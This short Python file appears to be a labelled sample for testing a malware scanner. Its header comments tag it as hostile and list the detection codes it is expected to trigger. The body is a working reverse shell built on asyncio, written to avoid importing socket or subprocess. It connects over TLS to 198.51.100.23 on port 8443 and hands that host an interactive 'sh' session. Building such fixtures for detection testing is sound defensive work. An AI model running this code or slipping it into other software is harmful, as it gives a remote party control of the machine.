# label: hostile
# expect: V201 V301
# note: A reverse shell in coroutines, where neither socket nor subprocess is imported.
import asyncio


async def pump(reader, writer):
    while chunk := await reader.read(4096):
        writer.write(chunk)
        await writer.drain()


async def session():
    r, w = await asyncio.open_connection("198.51.100.23", 8443, ssl=True)
    p = await asyncio.create_subprocess_exec(
        "sh", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
    )
    await asyncio.gather(pump(r, p.stdin), pump(p.stdout, w))


asyncio.run(session())
